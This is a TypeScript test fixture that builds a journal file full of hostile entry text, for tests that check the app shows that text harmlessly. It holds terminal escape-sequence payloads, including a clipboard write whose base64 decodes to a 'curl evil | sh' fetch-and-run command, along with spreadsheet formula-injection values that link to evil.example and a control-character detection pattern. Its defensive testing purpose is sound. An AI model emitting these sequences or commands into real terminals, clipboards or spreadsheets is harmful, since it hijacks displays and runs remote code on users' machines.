// Entry text that tries to drive a terminal or a spreadsheet, for the tests
// that check trust shows it harmlessly.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';

export const ESC = '\x1b';

/** Each payload with a word in it, so the test can see the text is still there. */
export const PAYLOADS = {
  title: `${ESC}]0;TITLE-pwned\x07`,
  clear: `${ESC}[2J${ESC}[HCLEAR`,
  clipboard: `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07CLIP`,
  link: `${ESC}]8;;https://evil.example/${ESC}\\LINK${ESC}]8;;${ESC}\\`,
  conceal: `${ESC}[8mHIDDEN${ESC}[0m`,
  c1: '\u009b2JCSI',
  bidi: 'abc\u202eBIDI\u202c',
  del: 'DEL\x7f\b\bXX',
  carriage: 'SAFE\rEVIL',
};
const all = Object.values(PAYLOADS).join(' ');

/** Anything here in output means the journal's text reached the terminal raw (tabs and newlines are fine). */
export const RAW_CONTROL = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

export const IDS = { log: 'aaaaaaaa-0000-4000-8000-000000000001', review: 'aaaaaaaa-0000-4000-8000-000000000002', jar: 'aaaaaaaa-0000-4000-8000-000000000003', exercise: 'aaaaaaaa-0000-4000-8000-000000000004', open: 'aaaaaaaa-0000-4000-8000-000000000005' };

export const FORMULAS = { situation: '=HYPERLINK("https://evil.example","x")', balanced: '+1+1', prediction: '-2+3', evidenceFor: '@SUM(A1)', evidenceAgainst: '\tTAB' };

/** Texts for each field hostileJournal writes. */
export interface Texts {
  thought: string;
  action: string;
  outcome: string;
  marble: string;
  answer: string;
  thanks: string;
  partner: string;
}

/** A journal on `date`'s week: a log with its review, an open step, a marble, an exercise, with `texts` in every text field. */
export function journalWith(file: string, texts: Texts, date = '2026-11-18'): void {
  const at = `${date}T19:00:00.000Z`;
  const entries = [
    { id: IDS.log, kind: 'log', date, createdAt: at, thought: texts.thought, action: texts.action, gratitude: [texts.thanks], ...FORMULAS },
    { id: IDS.review, kind: 'review', date, createdAt: at, ref: IDS.log, done: 'yes', outcome: texts.outcome },
    { id: IDS.jar, kind: 'jar', date, createdAt: at, change: 'add', text: texts.marble, marbles: 1 },
    { id: IDS.exercise, kind: 'exercise', date, createdAt: at, exercise: 'temperature-reading', answers: { puzzles: texts.answer } },
    { id: IDS.open, kind: 'log', date, createdAt: at, thought: texts.thought, action: texts.action },
  ];
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, JSON.stringify({ schemaVersion: 1, profile: { partner: texts.partner }, entries }), { mode: 0o600 });
}

/** Every text field carries every payload, a line break and a tab. */
export function hostileJournal(file: string, date = '2026-11-18'): void {
  const text = (label: string) => `${label} ${all}\nsecond\tline`;
  journalWith(file, {
    thought: text('thought'), action: text('action'), outcome: text('outcome'), marble: text('marble'),
    answer: text('answer'), thanks: text('thanks'), partner: `Sam${PAYLOADS.title}`,
  }, date);
}
